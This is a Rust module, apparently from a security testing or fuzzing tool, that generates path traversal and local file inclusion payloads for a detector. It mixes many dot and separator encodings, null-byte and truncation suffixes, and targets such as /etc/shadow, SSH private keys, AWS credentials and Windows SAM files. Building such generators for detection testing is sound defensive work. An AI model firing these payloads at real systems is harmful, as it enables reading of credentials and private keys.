//! Path traversal and local file inclusion: a path-valued parameter × a traversal (a number of
//! `..` steps, or an absolute path) × the spelling of the dots and of the separators (percent
//! layers, overlong UTF-8, `%u` escapes, full-width forms, filter-stripping doubles `....//`,
//! Tomcat's `..;/`, mixed `/` and `\`) × a target file (Unix, Windows, application secrets,
//! procfs, logs) × a suffix that defeats an extension check (`%00.png`, `?`, `#`) × a prefix
//! the application expects (`images/`, `/var/www/uploads/`, `file:///`).

use crate::mutate::{join, percent_specials};
use crate::{Carrier, Family, Rng, Variant};

pub struct PathTraversal;

const UNIX_TARGETS: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "proc/self/environ",
    "proc/self/cmdline",
    "proc/version",
    "var/log/apache2/access.log",
    "var/log/nginx/error.log",
    "root/.ssh/id_rsa",
    "root/.bash_history",
    "etc/nginx/nginx.conf",
    "etc/mysql/my.cnf",
    "usr/local/etc/php.ini",
    "etc/issue",
    "home/ubuntu/.ssh/authorized_keys",
    "etc/os-release",
];
const WINDOWS_TARGETS: &[&str] = &[
    "windows/win.ini",
    "windows/system32/drivers/etc/hosts",
    "boot.ini",
    "windows/system.ini",
    "winnt/win.ini",
    "inetpub/wwwroot/web.config",
    "windows/repair/sam",
    "windows/panther/unattend.xml",
    "windows/system32/config/sam",
];
const APP_TARGETS: &[&str] = &[
    "WEB-INF/web.xml",
    ".env",
    ".git/config",
    "config/database.yml",
    "wp-config.php",
    "app/etc/local.xml",
    ".aws/credentials",
    "config.php",
    "META-INF/MANIFEST.MF",
    ".htpasswd",
    "application.properties",
    "settings.py",
];
const PREFIXES: &[&str] = &["", "", "", "images/", "/var/www/uploads/", "static/", "templates/", "lang/", "C:\\inetpub\\wwwroot\\"];

/// A `..` step's dots as the application receives them, and the mutation name.
fn dots(rng: &mut Rng) -> (&'static str, &'static str) {
    *rng.pick(&[
        ("..", "plain"),
        ("..", "plain"),
        ("%2e%2e", "pct-dots"),
        ("%2E.", "pct-dots"),
        (".%2e", "pct-dots"),
        ("%252e%252e", "double-pct-dots"),
        ("%c0%ae%c0%ae", "overlong-2"),
        ("%e0%80%ae%e0%80%ae", "overlong-3"),
        ("%u002e%u002e", "u-escape"),
        ("%uff0e%uff0e", "u-escape-fullwidth"),
        ("%2e%2e%2e%2e", "pct-filter-double"),
        ("\u{ff0e}\u{ff0e}", "fullwidth"),
        ("....", "filter-double"),
        ("...", "triple-dot"),
        // A `%` that starts no escape, dropped by a lax decoder.
        (".%.", "stray-pct"),
        ("%.%.", "stray-pct"),
        // Overlong forms strict decoders reject: the continuation byte's `%` left out, an
        // ASCII continuation byte, four-byte leads.
        ("%c0ae%c0ae", "overlong-bare"),
        ("%C0AE%C0AE", "overlong-bare"),
        ("%c0%2e%c0%2e", "overlong-ascii-cont"),
        ("%f0%80%80%ae%f0%80%80%ae", "overlong-4"),
        ("%e0%40%ae%e0%40%ae", "overlong-3-lax"),
        ("%u2024%u2024", "u-escape-leader"),
        // Double-nibble: `%%32%65` is `%`, `%32` (`2`), `%65` (`e`) — `%2e` after one decode.
        ("%%32%65%%32%65", "nibble-dots"),
        ("%%32%65.", "nibble-dots"),
    ])
}

/// A separator as the application receives it, and the mutation name.
fn separator(rng: &mut Rng) -> (&'static str, &'static str) {
    *rng.pick(&[
        ("/", ""),
        ("/", ""),
        ("\\", "backslash"),
        ("%2f", "pct-slash"),
        ("%5c", "pct-backslash"),
        ("%252f", "double-pct-slash"),
        ("%c0%af", "overlong-slash"),
        ("%c1%9c", "overlong-backslash"),
        ("%e0%80%af", "overlong-slash"),
        ("%u2215", "u-slash"),
        ("%u2216", "u-backslash"),
        ("%c1%1c", "overlong-backslash"),
        ("%255c", "double-pct-backslash"),
        ("///", "many-slashes"),
        ("\u{ff0f}", "fullwidth-slash"),
        ("//", "double-slash"),
        (";/", "semicolon"),
        ("/./", "dot-segment"),
        ("%c0af", "overlong-slash-bare"),
        ("%C1%1C", "overlong-backslash"),
        ("%f0%80%80%af", "overlong-4-slash"),
        ("%/", "stray-pct-slash"),
        ("\u{2215}", "division-slash"),
        ("%%32%66", "nibble-slash"),
        ("%%35%63", "nibble-backslash"),
        // An encoded separator whose `%` a filter deleted (`..2f..2fetc2fpasswd`).
        ("2f", "lost-pct-slash"),
        ("5c", "lost-pct-backslash"),
    ])
}

fn target(rng: &mut Rng) -> (&'static str, bool) {
    match rng.below(10) {
        0..=4 => (*rng.pick(UNIX_TARGETS), false),
        5..=7 => (*rng.pick(WINDOWS_TARGETS), true),
        _ => (*rng.pick(APP_TARGETS), false),
    }
}

impl Family for PathTraversal {
    fn name(&self) -> &'static str {
        "path-traversal"
    }

    fn detector(&self) -> &'static str {
        "path-traversal"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let (file, windows) = target(rng);
        // An absolute path or URI to a system file, no `..` at all (an application file is only
        // reached by traversal: `/config.php` is relative to the web root).
        let system = !APP_TARGETS.contains(&file);
        let text = if system && rng.chance(0.25) {
            // An absolute path or URI to the file, no `..` at all.
            let (abs, name) = match rng.below(7) {
                0 => (format!("/{file}"), "absolute"),
                1 => (format!("file:///{file}"), "file-uri"),
                2 => (format!("file://localhost/{file}"), "file-uri"),
                3 if windows => (format!("C:\\{}", file.replace('/', "\\")), "drive-path"),
                3 => (format!("//{file}"), "absolute"),
                // A drive path as a `file:` URL's path spells it.
                6 if windows => (format!("/C:/{file}"), "slash-drive-path"),
                4 => (format!("/{}", file.replacen('/', "//", 1)), "doubled-slash"),
                _ => (format!("/{}", file.replacen('/', "/./", 1)), "dot-segment-abs"),
            };
            names.push(name);
            abs
        } else {
            let (sep, sep_name) = separator(rng);
            // The filter that deleted the separator's `%` deleted the dots' too.
            let lost_pct = sep_name.starts_with("lost-pct");
            let (dot, dot_name) = if lost_pct { ("..", "plain") } else { dots(rng) };
            let depth = rng.range(1, 9);
            names.push(dot_name);
            names.push(sep_name);
            let mut t = String::new();
            for k in 0..depth {
                // Mixed separators in one chain: `..\../..\`.
                if k > 0 && rng.chance(0.1) {
                    t.push_str(dot);
                    t.push_str(if sep == "/" { "\\" } else { "/" });
                    if !names.contains(&"mixed") {
                        names.push("mixed");
                    }
                } else {
                    t.push_str(dot);
                    t.push_str(sep);
                }
            }
            let file = if lost_pct {
                file.replace('/', sep)
            } else if sep.contains('\\') || sep.contains("5c") || sep.contains("9c") {
                file.replace('/', "\\")
            } else {
                file.to_string()
            };
            if depth == 1 {
                names.push("one-step");
            }
            format!("{}{t}{file}", rng.pick(PREFIXES))
        };
        let suffix = match rng.below(9) {
            0 => "%00".to_string(),
            1 => "%00.png".to_string(),
            2 => "\0.jpg".to_string(),
            3 => "?".to_string(),
            4 => "#.html".to_string(),
            // Path truncation: `./` padding past the length an old runtime keeps, so the
            // extension the application appends falls off.
            5 => "/.".repeat(rng.range(40, 300)),
            _ => String::new(),
        };
        if !suffix.is_empty() {
            names.push("suffix");
        }
        let text = format!("{text}{suffix}");
        let (payload, layer) = match rng.below(6) {
            0 => (percent_specials(&text), "url"),
            1 => (percent_specials(&percent_specials(&text)), "double-url"),
            _ => (text, ""),
        };
        names.push(layer);
        Variant { family: "path-traversal", mutation: join(&names), payload, carrier: Carrier::Value }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn many_distinct_variants() {
        let variants = crate::sample(&PathTraversal, 1, 3000);
        let distinct: std::collections::HashSet<_> = variants.iter().map(|v| v.payload.as_str()).collect();
        assert!(distinct.len() > 2000, "{}", distinct.len());
    }
}
